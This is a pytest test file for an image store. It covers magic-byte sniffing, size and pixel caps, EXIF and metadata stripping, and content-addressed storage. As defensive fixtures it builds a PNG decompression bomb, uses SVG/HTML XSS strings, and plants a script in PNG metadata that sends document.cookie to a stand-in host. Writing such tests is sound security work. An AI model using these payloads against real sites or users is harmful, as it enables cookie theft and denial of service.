"""The image store (kiemchung.images.store): caps, sniffing, bomb-safe decoding, metadata stripping,
content addressing, links; on SQLite (files next to the database) and PostgreSQL (the blobs table)."""

from __future__ import annotations

import hashlib
import io
import tracemalloc
import zlib
import struct

import pytest
from PIL import Image, PngImagePlugin

from imagekit import encoded, picture

from kiemchung.errors import NotFoundError
from kiemchung.images.store import ImageError, ImageStore, decode, read_image_file, sniff
from kiemchung.images.tables import image_links, images


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid PNG of width × height 1-bit pixels, all zero: a few kB that decode to huge memory."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def test_sniffing_goes_by_magic_bytes_not_names():
    assert sniff(encoded(picture(), "JPEG")) == "JPEG"
    assert sniff(encoded(picture(), "PNG")) == "PNG"
    assert sniff(encoded(picture(), "GIF")) == "GIF"
    assert sniff(encoded(picture(), "WEBP")) == "WEBP"
    assert sniff(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>") is None
    assert sniff(encoded(picture(), "BMP")) is None


@pytest.mark.parametrize("data,code", [
    (b"", "image_empty"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image_wrong_type"),
    (b"<!doctype html><script>alert(1)</script>", "image_wrong_type"),
    (b"%PDF-1.7\n", "image_wrong_type"),
    (b"\xff\xd8\xff\xe0" + b"\x00" * 40, "image_corrupt"),
    (b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, "image_corrupt"),
])
def test_bad_bytes_are_refused_with_a_code(data, code):
    with pytest.raises(ImageError) as err:
        decode(data)
    assert err.value.code == code
    assert "(" in str(err.value)  # Vietnamese, then English in brackets


def test_truncated_image_is_corrupt():
    data = encoded(picture(), "PNG")
    with pytest.raises(ImageError) as err:
        decode(data[: len(data) // 2])
    assert err.value.code == "image_corrupt"


def test_truncated_image_is_corrupt_after_a_pdf_report_loaded_weasyprint():
    # WeasyPrint's import sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process (found when this
    # module's test above ran after the reports' tests); the reports put it back.
    import importlib.util

    from PIL import ImageFile

    if importlib.util.find_spec("weasyprint") is None:  # (importorskip would import it here)
        pytest.skip("weasyprint is not installed")

    from kiemchung.reports.render import _weasyprint_html

    _weasyprint_html()
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    data = encoded(picture(), "PNG")
    with pytest.raises(ImageError) as err:
        decode(data[: len(data) // 2])
    assert err.value.code == "image_corrupt"


def test_size_cap_is_checked_first():
    with pytest.raises(ImageError) as err:
        decode(b"\xff\xd8\xff" + b"\x00" * 2000, max_bytes=1000)
    assert err.value.code == "image_too_large"


def test_decompression_bomb_is_refused_from_its_header_without_decoding():
    bomb = png_bomb(20_000, 20_000)  # 400 Mpx, 1 bit each: about 50 MB as pixels, 50 kB as a file
    assert len(bomb) < 200_000
    tracemalloc.start()
    try:
        with pytest.raises(ImageError) as err:
            decode(bomb, max_pixels=10_000_000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert err.value.code == "image_too_many_pixels"
    assert peak < 5_000_000, peak


def test_an_oversized_jpeg_is_decoded_downscaled_in_draft_mode():
    data = encoded(picture(3, (2400, 1600)), "JPEG", quality=80)
    got = decode(data, max_pixels=1_000_000)
    assert "downscaled" in got.warnings
    assert got.width * got.height <= 1_000_000 and got.width == 1200
    # a PNG over the cap is refused instead
    with pytest.raises(ImageError) as err:
        decode(encoded(picture(3, (2400, 1600)), "PNG"), max_pixels=1_000_000)
    assert err.value.code == "image_too_many_pixels"


def test_animated_gif_keeps_the_first_frame():
    frames = [picture(i, (120, 90)).convert("P") for i in range(3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    got = decode(out.getvalue())
    assert got.frames == 3 and "animated" in got.warnings
    kept = Image.open(io.BytesIO(got.clean))
    assert kept.format == "PNG" and getattr(kept, "n_frames", 1) == 1
    first = decode(encoded(frames[0], "PNG"))
    assert first.phash == got.phash


def test_script_in_metadata_is_reported_and_stripped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>fetch('//x/'+document.cookie)</script>")
    data = encoded(picture(), "PNG", pnginfo=info)
    got = decode(data)
    assert "metadata_script" in got.warnings
    assert b"script" not in got.clean.lower()
    assert Image.open(io.BytesIO(got.clean)).info.get("Comment") is None
    # a JPEG comment and an HTML tail appended after the image (a polyglot)
    jpeg = encoded(picture(), "JPEG", comment=b"<svg onload=alert(1)>") + b"<html><script>x()</script>"
    got = decode(jpeg)
    assert "metadata_script" in got.warnings and b"<svg" not in got.clean and b"<script" not in got.clean


def test_exif_is_stripped_and_orientation_applied():
    img = picture(5, (200, 100))
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    exif[0x010F] = "PhoneMaker"  # Make
    got = decode(encoded(img, "JPEG", exif=exif.tobytes()))
    assert (got.width, got.height) == (100, 200)
    kept = Image.open(io.BytesIO(got.clean))
    assert not kept.getexif() and b"PhoneMaker" not in got.clean


def test_read_image_file_caps_what_it_reads(tmp_path):
    p = tmp_path / "anh.jpg"
    p.write_bytes(b"\xff\xd8\xff" + b"\x00" * 5000)
    with pytest.raises(ImageError) as err:
        read_image_file(p, max_bytes=1000)
    assert err.value.code == "image_too_large"
    with pytest.raises(NotFoundError):
        read_image_file(tmp_path / "khong-co.jpg")


def test_store_keeps_each_image_once_and_links_it(any_db, tmp_path):
    store = ImageStore(any_db)
    data = encoded(picture(7), "JPEG", quality=85)
    a = store.put(data)
    b = store.put(data)
    assert a.id == b.id and a.sha256 == hashlib.sha256(store.data(a)).hexdigest()
    assert a.original_sha256 == hashlib.sha256(data).hexdigest() and a.mime == "image/jpeg"
    assert len(a.phash) == 16 and a.crop_hashes
    # the same picture re-sent as PNG is a different file, stored separately
    c = store.put(encoded(picture(7), "PNG"))
    assert c.id != a.id and c.mime == "image/png"
    assert store.link(a.id, "factcheck", 1) is True
    assert store.link(a.id, "factcheck", 1) is False
    store.link(c.id, "document", 42, source_url="https://example.org/a.png", position=1)
    store.link(a.id, "document", 42, position=0)
    assert [i.id for i in store.for_target("document", 42)] == [a.id, c.id]
    assert store.links(c.id) == [{"target": "document", "target_id": 42, "source_url": "https://example.org/a.png"}]
    assert store.unlink(a.id, "factcheck", 1) and store.for_target("factcheck", 1) == []
    with any_db.read() as conn:
        assert conn.execute(images.select()).all().__len__() == 2
        assert len(conn.execute(image_links.select()).all()) == 2
    with pytest.raises(NotFoundError):
        store.get(999)
    if getattr(any_db, "path", None):  # SQLite: files next to the database
        assert (tmp_path / "bang-chung" / a.sha256[:2] / a.sha256).exists()


def test_store_uses_the_configured_folder_and_caps(db, tmp_path):
    folder = tmp_path / "anh-luu"
    db.set_setting("image_folder", str(folder))
    db.set_setting("image_max_bytes", "2000")
    store = ImageStore(db)
    small = encoded(picture(1, (16, 16)), "PNG")
    got = store.put(small)
    assert (folder / got.sha256[:2] / got.sha256).read_bytes() == store.data(got)
    with pytest.raises(ImageError) as err:
        store.put(encoded(picture(2, (400, 400)), "PNG"))
    assert err.value.code == "image_too_large"
